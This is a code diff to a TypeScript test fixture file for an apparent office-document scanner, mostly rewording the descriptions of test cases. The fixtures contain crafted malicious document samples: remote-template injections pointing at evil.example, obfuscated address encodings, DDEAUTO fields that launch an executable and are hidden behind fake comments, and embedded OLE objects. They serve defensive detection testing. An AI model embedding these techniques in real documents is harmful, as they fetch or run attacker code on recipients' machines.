@@ -11,14 +11,14 @@ const field = (...words: string[]) => ({
 const wide = (text: string) => [...text].map((sign) => `${sign}\0`).join('');
 const ole = '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1';
 
-/** What a refusal says. */
+/** The reasons that a refusal gives. */
 const RUNS = 'contains macros, controls or objects from other programs';
 const FETCHES = 'fetches or sends something';
 const PACKED = 'can’t be unpacked, or takes too long to check';
 
 type Document = readonly [what: string, extension: string, content: Uint8Array];
 
-/** What a refusal calls a document, by its extension. */
+/** The name of a document type in a refusal, by extension. */
 export const KINDS: Readonly<Record<string, string>> = {
   doc: 'Word before 2007',
   docx: 'Word',
@@ -27,7 +27,7 @@ export const KINDS: Readonly<Record<string, string>> = {
   rtf: 'RTF',
 };
 
-/** Documents that run or fetch something when they are opened, and what they have. */
+/** Documents that run or fetch something when they are opened, each with the reason for its refusal. */
 export const DANGEROUS_DOCUMENTS: readonly (readonly [...Document, has: string])[] = [
   [
     'an OpenDocument file with a Basic library',
@@ -35,7 +35,7 @@ export const DANGEROUS_DOCUMENTS: readonly (readonly [...Document, has: string])
     odt({ 'Basic/Standard/Module1.xml': 'Sub Main' }),
     RUNS,
   ],
-  ['an OpenDocument file with an event', 'odt', odt({ 'settings.xml': '<event-listener/>' }), RUNS],
+  ['an OpenDocument file with an event listener', 'odt', odt({ 'settings.xml': '<event-listener/>' }), RUNS],
   ...DANGEROUS_PDFS,
   [
     'an RTF file that updates an object',
@@ -43,57 +43,47 @@ export const DANGEROUS_DOCUMENTS: readonly (readonly [...Document, has: string])
     rtf('{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}'),
     RUNS,
   ],
+  ['an RTF file with a remote template', 'rtf', rtf('{\\*\\template https://evil.example/a.dotm}'), FETCHES],
   [
-    'an RTF file with a template from elsewhere',
-    'rtf',
-    rtf('{\\*\\template https://evil.example/a.dotm}'),
-    FETCHES,
-  ],
-  [
-    'an RTF file with a template of another machine',
+    'an RTF file with a template on another machine',
     'rtf',
     rtf('{\\*\\template //evil.example/a.dotm}'),
     FETCHES,
   ],
   [
-    'an RTF file with a template from elsewhere, its letters written as numbers',
+    'an RTF file with a remote template, its address written as character codes',
     'rtf',
     rtf("{\\*\\template \\u104?ttps://evil.example/a.dotm}{\\*\\template \\'68ttps://evil.example}"),
     FETCHES,
   ],
+  ['a Word file with a remote template', 'docx', docx(settings('https://evil.example/a.dotm')), FETCHES],
   [
-    'a Word file with a template from elsewhere',
-    'docx',
-    docx(settings('https://evil.example/a.dotm')),
-    FETCHES,
-  ],
-  [
-    'a Word file with a template of another machine',
+    'a Word file with a template on another machine',
     'docx',
     docx(settings('\\\\evil.example\\a.dotm')),
     FETCHES,
   ],
-  ['a Word file with an object', 'docx', docx({ 'word/embeddings/oleObject1.bin': 'x' }), RUNS],
+  ['a Word file with an embedded object', 'docx', docx({ 'word/embeddings/oleObject1.bin': 'x' }), RUNS],
   [
-    'a Word file with an object under another name',
+    'a Word file with an embedded object in a file of another name',
     'docx',
     docx({ 'word/_rels/document.xml.rels': rels('oleObject', 'media/a.dat') }),
     RUNS,
   ],
   [
-    'a Word file with a call of another program',
+    'a Word file with a field that calls another program',
     'docx',
     docx(field(' DD', 'E<!-- -->AUTO c:\\\\Windows\\\\a.exe')),
     RUNS,
   ],
   [
-    'a Word file with a template from elsewhere, its address written as numbers',
+    'a Word file with a remote template, its address written as character references',
     'docx',
     docx(settings('&#x68;ttps://evil.example/a.dotm')),
     FETCHES,
   ],
   [
-    'a Word file with a template from elsewhere that calls itself a link',
+    'a Word file with a remote template whose title looks like the type of a link',
     'docx',
     docx({
       'word/_rels/settings.xml.rels': rels('attachedTemplate', 'https://e.example/a" Title=">/hyperlink'),
@@ -101,25 +91,25 @@ export const DANGEROUS_DOCUMENTS: readonly (readonly [...Document, has: string])
     FETCHES,
   ],
   [
-    'a Word file with a template from elsewhere whose address names a link',
+    'a Word file with a remote template whose address looks like the type of a link',
     'docx',
     docx(settings('https://e.example/a.dotm?Type=&#39;/hyperlink&#39;')),
     FETCHES,
   ],
   [
-    'a Word file with a template of a shared folder',
+    'a Word file with a template in a shared folder',
     'docx',
     docx(settings('file:////evil.example/a.dotm')),
     FETCHES,
   ],
   [
-    'a Word file with a call of another program behind what looks like a comment',
+    'a Word file with a field that calls another program before a false comment',
     'docx',
     docx(field('DDEAUTO"c:\\a.exe"', '<![CDATA[<!--]]>')),
     RUNS,
   ],
   [
-    'a Word file whose text has another name',
+    'a Word file whose document part has another name',
     'docx',
     docx({ 'word/document.dat': field('DDE x')['word/document.xml'] }),
     RUNS,
@@ -131,7 +121,7 @@ export const DANGEROUS_DOCUMENTS: readonly (readonly [...Document, has: string])
     PACKED,
   ],
   [
-    'a Word file with a template from elsewhere, in UTF-16',
+    'a Word file with a remote template, in UTF-16',
     'docx',
     docx({
       'word/_rels/settings.xml.rels': wide(rels('attachedTemplate', 'https://evil.example/a.dotm')),
@@ -139,34 +129,30 @@ export const DANGEROUS_DOCUMENTS: readonly (readonly [...Document, has: string])
     FETCHES,
   ],
   [
-    'an OpenDocument file with a picture from elsewhere',
+    'an OpenDocument file with a remote picture',
     'odt',
     odt({ 'styles.xml': `<image xmlns:x="${XLINK}" x:href="https://evil.example/a.png"/>` }),
     FETCHES,
   ],
   ['a Word file that cannot be unpacked', 'docx', docx().subarray(0, -30), PACKED],
   [
-    'an old Word file with a package',
+    'an old Word file with an embedded package',
     'doc',
     new Uint8Array(Buffer.from(`${ole}${wide('WordDocument')}\x01\0${wide('Ole10Native')}`, 'latin1')),
     RUNS,
   ],
 ];
 
-/** Documents that have something alike, which is harmless. */
+/** Harmless documents with similar contents. */
 export const HARMLESS_DOCUMENTS: readonly Document[] = [
   ['a PDF with a link', 'pdf', pdfOf('<< /S /URI /URI (https://ada.example) >>')],
-  ['a PDF with an entry twice, as LaTeX writes its title', 'pdf', pdfOf('<< /Title (CV) /Title (Ada) >>')],
+  ['a PDF with a repeated entry, as LaTeX writes the title', 'pdf', pdfOf('<< /Title (CV) /Title (Ada) >>')],
   [
     'a Word file with a link',
     'docx',
     docx({ 'word/_rels/document.xml.rels': rels('hyperlink', 'https://ada.example') }),
   ],
-  [
-    'a Word file with the number of its page',
-    'docx',
-    docx(field(' PAGE ', ' HYPERLINK "https://ada.example" ')),
-  ],
+  ['a Word file with a page number', 'docx', docx(field(' PAGE ', ' HYPERLINK "https://ada.example" '))],
   [
     'an OpenDocument file with a link and a picture',
     'odt',
@@ -179,23 +165,27 @@ export const HARMLESS_DOCUMENTS: readonly Document[] = [
     'pdf',
     pdfOf('<< /First 5 0 R /Last 6 0 R >> endobj 2 0 obj << >> stream\nBT\nendstream'),
   ],
-  ['a Word file with a template of its writer', 'docx', docx(settings('file:///C:\\Users\\Ada\\CV.dotx'))],
-  ['a Word file with a template of a Mac', 'docx', docx(settings('file:////Users/ada/CV.dotx'))],
-  ['a Word file with a picture of a mail', 'docx', docx(settings('cid:image001.png@01D1'))],
+  [
+    "a Word file with a template on its author's machine",
+    'docx',
+    docx(settings('file:///C:\\Users\\Ada\\CV.dotx')),
+  ],
+  ["a Word file with a template on its author's Mac", 'docx', docx(settings('file:////Users/ada/CV.dotx'))],
+  ['a Word file with a picture that was copied from a mail', 'docx', docx(settings('cid:image001.png@01D1'))],
   ['a Word file with a link to Anna Hedde', 'docx', docx(field(' HYPERLINK "x" \\o "Anna Hedde "'))],
   ['a Word file with a chart', 'docx', docx({ 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'PK' })],
   [
-    'an RTF file with templates of its writer',
+    "an RTF file with templates on its author's machine",
     'rtf',
     rtf("{\\*\\template C:\\\\Users\\\\Ad\\'e9\\\\CV.dotx}{\\*\\template Normal.dotm}"),
   ],
   [
-    'an RTF file with templates of its writer on a Mac',
+    "an RTF file with templates on its author's Mac",
     'rtf',
     rtf('{\\*\\template Macintosh HD:Users:ada:Normal.dotm}{\\*\\template /Users/ada/Normal.dotm}'),
   ],
   [
-    'an RTF file with templates whose names have signs',
+    'an RTF file with templates whose names have special characters',
     'rtf',
     rtf("{\\*\\template Ada & Co.dotx}{\\*\\template Ada's CV.dotx}{\\*\\template Pr\\'e9.dotm}"),
   ],
